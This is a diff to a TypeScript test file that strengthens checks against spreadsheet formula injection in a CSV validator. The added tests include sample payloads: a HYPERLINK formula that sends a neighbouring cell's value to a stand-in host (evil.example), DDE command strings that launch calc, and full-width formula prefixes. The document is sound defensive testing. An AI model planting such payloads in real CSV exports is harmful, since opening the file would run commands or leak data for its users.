@@ -2,6 +2,7 @@ import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { csvFormatRows, csvParseRows } from 'd3-dsv';
 import { tmpdir } from 'node:os';
 import { join, relative } from 'node:path';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import {
   DataValidationError,
@@ -168,7 +169,21 @@ describe('collecting every defect before failing', () => {
     const [header, first] = [claims[0]!.split(','), claims[1]!];
     const quoteAt = header.indexOf('quote');
     expect(quoteAt).toBeGreaterThan(-1);
-    for (const formula of ['=HYPERLINK(""https://evil.example/"",""x"")', '+cmd', '@SUM(1)', '-x']) {
+    for (const formula of [
+      '=HYPERLINK(""https://evil.example/"",""x"")',
+      '+cmd',
+      '@SUM(1)',
+      '-x',
+      // A digit after the minus does not make it a number.
+      '-1+HYPERLINK(""https://evil.example/?""&A2,""click"")',
+      "-2+3+cmd|' /C calc'!A0",
+      '-1,500.5+1',
+      // Full-width forms, which spreadsheets may fold to = + @ -.
+      '\uff1d1+1',
+      '\uff0bcmd',
+      '\uff20SUM(1)',
+      '\uff0d1+1',
+    ]) {
       const cells = csvParseRows(first)[0]!;
       cells[quoteAt] = formula.replaceAll('""', '"');
       const row = csvFormatRows([cells]);
@@ -178,8 +193,29 @@ describe('collecting every defect before failing', () => {
         /^data\/claims\.csv, row 2, column "quote": .*a spreadsheet opening the download would run it as a formula/,
       );
     }
-    expect(startsLikeFormula('-5')).toBe(false);
+    for (const number of ['-5', '-12', '-1,500.5', '-0.25', ' -12 ', '-1500'])
+      expect(startsLikeFormula(number), number).toBe(false);
     expect(startsLikeFormula('a = b')).toBe(false);
+    expect(startsLikeFormula('-1,50')).toBe(true);
+  });
+
+  it('lets a minus through only when the whole cell is a number: any formula after "-<digits>" is caught', () => {
+    const formulaTail = fc.constantFrom(
+      '+1',
+      '+HYPERLINK("https://evil.example/")',
+      "+cmd|' /C calc'!A0",
+      '*A1',
+      '&A2',
+    );
+    fc.assert(
+      fc.property(fc.integer({ min: 1 }), fc.boolean(), formulaTail, (value, grouped, tail) => {
+        const number = `-${grouped ? value.toLocaleString('en') : value}`;
+        expect(startsLikeFormula(number)).toBe(false);
+        expect(startsLikeFormula(`${number}.5`)).toBe(false);
+        expect(startsLikeFormula(`${number}${tail}`)).toBe(true);
+        expect(startsLikeFormula(`\uff0d${number.slice(1)}${tail}`)).toBe(true);
+      }),
+    );
   });
 
   it('rejects a stray column and a row with the wrong number of cells', () => {
